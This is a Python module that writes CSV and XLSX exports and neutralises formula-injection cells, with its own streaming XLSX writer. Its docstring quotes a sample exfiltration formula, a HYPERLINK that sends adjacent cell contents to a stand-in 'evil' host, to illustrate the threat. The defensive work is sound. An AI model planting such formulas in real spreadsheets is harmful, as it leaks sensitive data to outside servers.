"""Safe tabular writers: CSV and XLSX that a spreadsheet opens without running anything.

The threat is formula injection (CSV injection): a quoted testimony or a code name such as
`=HYPERLINK("http://evil/?"&A1, "click")` becomes a live formula when a researcher opens the export, and can
send neighbouring cells (pseudonyms, quotes) to a server or run commands through DDE. Every text cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's list) is therefore written with a leading
single quote, so it reads as text; in XLSX the cell is also stored explicitly as a string (`data_type` "s"),
never as a formula. Numbers stay numbers (a negative number is a number, not a formula).

XLSX also cannot hold most control characters (they make the file unreadable): they are replaced by U+FFFD.
A cell holds at most 32 767 characters; longer text is cut and ends with a marker. CSV is UTF-8 with a
byte-order mark (Excel reads UTF-8 correctly only with it), every field quoted as needed, CRLF line ends
(RFC 4180).

The workbook is streamed by a small SpreadsheetML writer of our own rather than by openpyxl: openpyxl builds
a cell object per value and serialises it through lxml (tens of microseconds a cell), which put a
100,000-incident export (2.4 million cells) far past its 10-second budget (issue 10). The writer emits the
same parts openpyxl's write-only mode did (text as inline strings, `t="inlineStr"`, numbers `t="n"`, booleans
`t="b"`, the bold header through style 1, no formula element ever) minus openpyxl's document properties (a
creator name and creation time), and writes each sheet into the zip in chunks, so memory stays flat.
tests/exports/test_tabular.py reads its output back with openpyxl and compares it with openpyxl's own.
"""

from __future__ import annotations

import csv
import io
import math
import re
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import IO

from openpyxl.utils import get_column_letter

Cell = str | int | float | bool | None

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CELL_LIMIT = 32_767
TRUNCATED = " [...cut: cell limit]"
# Lone surrogates cannot be encoded as UTF-8 at all: they go too.
_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_SHEET_TITLE = re.compile(r"[\[\]:*?/\\]")
_COMPRESSION = 6  # zlib level (what openpyxl used)


@dataclass(frozen=True)
class Sheet:
    """One table: a title (the XLSX sheet name), its column names and its rows."""

    title: str
    columns: Sequence[str]
    rows: Iterable[Sequence[Cell]]


def neutralise(value: str) -> str:
    """The text with a leading single quote when a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(DANGEROUS_PREFIXES) else value


def _csv_value(value: Cell) -> str | int | float:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return neutralise(value)
    return value


def to_csv(rows: Iterable[Sequence[Cell]], columns: Sequence[str]) -> bytes:
    """A CSV file (UTF-8 with BOM, CRLF) with a header row; every text cell neutralised."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([neutralise(column) for column in columns])
    width = len(columns)
    for row in rows:
        if len(row) != width:
            raise ValueError(f"a row has {len(row)} cells for {width} columns")
        # Plain text and ints (most cells) inline; the rest through `_csv_value`: same cells, less overhead.
        writer.writerow(
            [
                value
                if type(value) is int
                else ("'" + value if value.startswith(DANGEROUS_PREFIXES) else value)
                if type(value) is str
                else _csv_value(value)
                for value in row
            ]
        )
    return buffer.getvalue().encode("utf-8-sig")


def _xlsx_text(value: str) -> str:
    text = neutralise(_ILLEGAL_XLSX.sub("\ufffd", value))
    if len(text) > XLSX_CELL_LIMIT:
        text = text[: XLSX_CELL_LIMIT - len(TRUNCATED)] + TRUNCATED
    return text


def _sheet_title(title: str, taken: set[str]) -> str:
    base = _SHEET_TITLE.sub("_", title).strip("'")[:31] or "Sheet"
    name, number = base, 1
    while name.lower() in taken:
        number += 1
        name = f"{base[: 31 - len(str(number)) - 1]}_{number}"
    taken.add(name.lower())
    return name


# ---- the SpreadsheetML package ---------------------------------------------------------------------------

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
_STYLES = (
    f'{_XML}<styleSheet xmlns="{_MAIN}">'
    '<fonts count="2"><font><sz val="11"/><name val="Calibri"/><family val="2"/></font>'
    '<font><b val="1"/><sz val="11"/><name val="Calibri"/><family val="2"/></font></fonts>'
    '<fills count="2"><fill><patternFill/></fill><fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)
_ROOT_RELS = (
    f'{_XML}<Relationships xmlns="{_PKG_REL}"><Relationship Id="rId1" '
    f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_SHEET_HEAD = f'{_XML}<worksheet xmlns="{_MAIN}"><sheetData>'
_SHEET_TAIL = "</sheetData></worksheet>"
MAX_XLSX_ROWS = 1_048_576
MAX_XLSX_COLUMNS = 16_384
_CHUNK_ROWS = 2_000


def _escape(text: str) -> str:
    """Text as XML character data; a carriage return as a reference, so a reader does not fold it to LF."""
    if "&" in text:
        text = text.replace("&", "&amp;")
    if "<" in text:
        text = text.replace("<", "&lt;")
    if ">" in text:
        text = text.replace(">", "&gt;")
    if "\r" in text:
        text = text.replace("\r", "&#13;")
    return text


def _attribute(text: str) -> str:
    return _escape(text).replace('"', "&quot;")


def _text_cell(ref: str, value: str, style: str) -> str:
    text = _xlsx_text(value)
    if not text:
        return f'<c r="{ref}"{style} t="inlineStr"/>'  # as openpyxl wrote it: reads back as an empty cell
    space = ' xml:space="preserve"' if text != text.strip() else ""
    return f'<c r="{ref}"{style} t="inlineStr"><is><t{space}>{_escape(text)}</t></is></c>'


def _xml_cell(ref: str, value: Cell, style: str = "") -> str:
    """One `<c>` element: text always an inline string (never a formula), numbers and booleans typed."""
    if value is None:
        return ""
    if isinstance(value, str):
        return _text_cell(ref, value, style)
    if isinstance(value, bool):
        return f'<c r="{ref}"{style} t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int):
        return f'<c r="{ref}"{style} t="n"><v>{value}</v></c>'
    if isinstance(value, float):
        if math.isfinite(value):
            return f'<c r="{ref}"{style} t="n"><v>{value!r}</v></c>'
        return _text_cell(ref, str(value), style)  # a spreadsheet has no NaN or infinity
    raise TypeError(f"a cell cannot hold {type(value).__name__}")


def _write_sheet(stream: IO[bytes], sheet: Sheet) -> None:
    width = len(sheet.columns)
    if width > MAX_XLSX_COLUMNS:
        raise ValueError(f"a sheet holds at most {MAX_XLSX_COLUMNS} columns")
    letters = [get_column_letter(number) for number in range(1, width + 1)]
    header = "".join(
        _xml_cell(f"{letter}1", column, ' s="1"')
        for letter, column in zip(letters, sheet.columns, strict=True)
    )
    stream.write((_SHEET_HEAD + f'<row r="1">{header}</row>').encode("utf-8"))
    pieces: list[str] = []
    number = 1
    for row in sheet.rows:
        if len(row) != width:
            raise ValueError(f"a row has {len(row)} cells for {width} columns")
        number += 1
        if number > MAX_XLSX_ROWS:
            raise ValueError(f"a sheet holds at most {MAX_XLSX_ROWS} rows")
        at = str(number)
        cells = []
        for letter, value in zip(letters, row, strict=True):
            kind = type(value)
            # The common cases inline (most cells): short plain text and ints.
            if kind is int:
                cells.append(f'<c r="{letter}{at}" t="n"><v>{value}</v></c>')
            elif value is not None:
                cells.append(_xml_cell(letter + at, value))
        pieces.append(f'<row r="{at}">{"".join(cells)}</row>')
        if len(pieces) >= _CHUNK_ROWS:
            stream.write("".join(pieces).encode("utf-8"))
            pieces.clear()
    pieces.append(_SHEET_TAIL)
    stream.write("".join(pieces).encode("utf-8"))


def to_xlsx(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook, one sheet per table, bold header row; every text cell stored as neutralised text."""
    if not sheets:
        raise ValueError("a workbook needs at least one sheet")
    taken: set[str] = set()
    titles = [_sheet_title(sheet.title, taken) for sheet in sheets]
    count = len(sheets)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=_COMPRESSION) as archive:
        overrides = "".join(
            f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{_SHEET_TYPE}"/>'
            for n in range(1, count + 1)
        )
        archive.writestr(
            "[Content_Types].xml",
            f'{_XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/styles.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
            f"{overrides}</Types>",
        )
        archive.writestr("_rels/.rels", _ROOT_RELS)
        entries = "".join(
            f'<sheet name="{_attribute(title)}" sheetId="{n}" r:id="rId{n}"/>'
            for n, title in enumerate(titles, 1)
        )
        archive.writestr(
            "xl/workbook.xml",
            f'{_XML}<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>{entries}</sheets></workbook>',
        )
        relations = "".join(
            f'<Relationship Id="rId{n}" Type="{_REL}/worksheet" Target="worksheets/sheet{n}.xml"/>'
            for n in range(1, count + 1)
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'{_XML}<Relationships xmlns="{_PKG_REL}">{relations}'
            f'<Relationship Id="rId{count + 1}" Type="{_REL}/styles" Target="styles.xml"/></Relationships>',
        )
        archive.writestr("xl/styles.xml", _STYLES)
        for n, sheet in enumerate(sheets, 1):
            with archive.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as stream:
                _write_sheet(stream, sheet)
    return buffer.getvalue()
